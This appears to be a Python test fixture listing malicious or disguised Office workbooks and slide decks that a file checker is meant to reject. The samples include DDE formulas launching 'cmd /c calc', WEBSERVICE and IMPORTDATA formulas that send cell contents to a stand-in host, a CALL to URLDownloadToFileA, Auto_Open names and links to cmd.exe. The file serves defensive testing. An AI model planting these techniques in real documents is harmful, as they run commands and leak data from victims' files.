"""Sheets and slides that act by themselves, or hide what they are, each with the reason why not."""

from __future__ import annotations

from tests.files.office import (
    ACTIVE,
    FORMAT,
    MICROSOFT,
    MISNAMED,
    VBA,
    Maker,
    cell,
    s,
    sheet_document,
    slide_document,
    slides,
    word,
)
from tests.files.office_makers import with_main, with_names


def _formula(text: str) -> Maker:
    return lambda: sheet_document(cell(text)).written()


def _workbook_part(name: str, content: str, kind: str, tie: str, base: str = "") -> Maker:
    def make() -> bytes:
        document = sheet_document().part(f"xl/{name}", content, kind)
        return document.tie("xl/workbook.xml", tie, name, **({"base": base} if base else {})).written()

    return make


def _button(action: str) -> Maker:
    shape = (
        f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="a"><a:hlinkClick r:id="" action="{action}"/>'
        f"</p:cNvPr></p:nvSpPr></p:sp>"
    )
    return lambda: slide_document(shape).written()


def _hover() -> bytes:
    shape = '<p:sp><a:hlinkMouseOver r:id="rId1"/></p:sp>'
    document = slide_document(shape)
    return document.tie(
        "ppt/slides/slide1.xml", "hyperlink", "file:///c:/windows/system32/cmd.exe", external=True
    ).written()


def _connection(inner: str) -> Maker:
    kind = f"{FORMAT}.spreadsheetml.connections+xml"
    content = s("connections", f'<connection id="1">{inner}</connection>')
    return _workbook_part("connections.xml", content, kind, "connections")


BAD_SHEETS: dict[str, tuple[str, Maker, str]] = {
    "macros in a sheet": (
        "xlsx",
        _workbook_part("vbaProject.bin", "x", VBA, "vbaProject", MICROSOFT),
        ACTIVE,
    ),
    "macro sheet renamed": (
        "xlsx",
        with_main(sheet_document, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ACTIVE,
    ),
    "binary sheet renamed": (
        "xlsx",
        with_main(sheet_document, "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        ACTIVE,
    ),
    "macro slides renamed": (
        "pptx",
        with_main(slide_document, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        ACTIVE,
    ),
    "add-in renamed": (
        "xlsx",
        with_main(sheet_document, "application/vnd.ms-excel.addin.macroEnabled.main+xml"),
        ACTIVE,
    ),
    "Excel 4 macros": (
        "xlsx",
        _workbook_part(
            "macrosheets/sheet1.xml",
            s("macrosheet", ""),
            "application/vnd.ms-excel.macrosheet+xml",
            "xlMacrosheet",
            MICROSOFT,
        ),
        ACTIVE,
    ),
    "Excel 4 macros by content": (
        "xlsx",
        _workbook_part(
            "worksheets/sheet2.xml", s("macrosheet", ""), f"{FORMAT}.spreadsheetml.worksheet+xml", "worksheet"
        ),
        ACTIVE,
    ),
    "dialog sheet": (
        "xlsx",
        _workbook_part(
            "dialogsheets/sheet1.xml",
            s("dialogsheet", ""),
            f"{FORMAT}.spreadsheetml.dialogsheet+xml",
            "dialogsheet",
        ),
        ACTIVE,
    ),
    "name that opens": (
        "xlsx",
        with_names('<definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName>'),
        ACTIVE,
    ),
    "name that is a macro": (
        "xlsx",
        with_names('<definedName name="a" function="1" vbProcedure="1">0</definedName>'),
        ACTIVE,
    ),
    "book elsewhere": (
        "xlsx",
        lambda: (
            sheet_document()
            .tie(
                "xl/externalLinks/externalLink1.xml",
                "externalLinkPath",
                "file://192.0.2.1/a.xlsx",
                external=True,
            )
            .written()
        ),
        ACTIVE,
    ),
    "live link": (
        "xlsx",
        _workbook_part(
            "externalLinks/externalLink1.xml",
            s("externalLink", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
            f"{FORMAT}.spreadsheetml.externalLink+xml",
            "externalLink",
        ),
        ACTIVE,
    ),
    "live link to an object": (
        "xlsx",
        _workbook_part(
            "externalLinks/externalLink1.xml",
            s("externalLink", '<oleLink r:id="rId1" progId="a"/>'),
            f"{FORMAT}.spreadsheetml.externalLink+xml",
            "externalLink",
        ),
        ACTIVE,
    ),
    "web query": ("xlsx", _connection('<webPr url="http://example.com/"/>'), ACTIVE),
    "database": ("xlsx", _connection('<dbPr connection="Provider=MSDASQL;DSN=a"/>'), ACTIVE),
    "text on a share": ("xlsx", _connection('<textPr sourceFile="\\\\192.0.2.1\\a.csv"/>'), ACTIVE),
    "video elsewhere": (
        "pptx",
        lambda: (
            slide_document()
            .tie("ppt/slides/slide1.xml", "video", "https://example.com/v", external=True)
            .written()
        ),
        ACTIVE,
    ),
    "dde in a cell": ("xlsx", _formula("cmd|'/c calc'!A0"), ACTIVE),
    "dde in a cell, later": ("xlsx", _formula("1+MSEXCEL|'..\\..\\cmd.exe /c calc'!A0"), ACTIVE),
    "web service": ("xlsx", _formula('_xlfn.WEBSERVICE("http://example.com/?"&amp;A1)'), ACTIVE),
    "web service in lower case": ("xlsx", _formula("_xlfn.webservice (A1)"), ACTIVE),
    "web service between quotes": (
        "xlsx",
        _formula("T[&apos;&quot;]&amp;WEBSERVICE(A1)&amp;T[&quot;&apos;]"),
        ACTIVE,
    ),
    "picture by a formula": ("xlsx", _formula('_xlfn.IMAGE("http://example.com/a")'), ACTIVE),
    "import of a table": ("xlsx", _formula('IMPORTDATA("http://example.com/?"&amp;A1)'), ACTIVE),
    "import of a sheet": ("xlsx", _formula('importrange("a","b")'), ACTIVE),
    "live data": ("xlsx", _formula('RTD("a.b","","c")'), ACTIVE),
    "call": ("xlsx", _formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'), ACTIVE),
    "web service in a name": (
        "xlsx",
        with_names('<definedName name="a">_xlfn.WEBSERVICE("http://example.com")</definedName>'),
        ACTIVE,
    ),
    "link of a cell to a file": ("xlsx", _formula('HYPERLINK("\\\\192.0.2.1\\a","b")'), ACTIVE),
    "button for a program": ("pptx", _button("ppaction://program"), ACTIVE),
    "button for a macro": ("pptx", _button("ppaction://macro?name=Start"), ACTIVE),
    "link under the mouse": ("pptx", _hover, ACTIVE),
    "letter called slides": ("pptx", word, MISNAMED),
    "slides called a sheet": ("xlsx", slides, MISNAMED),
}
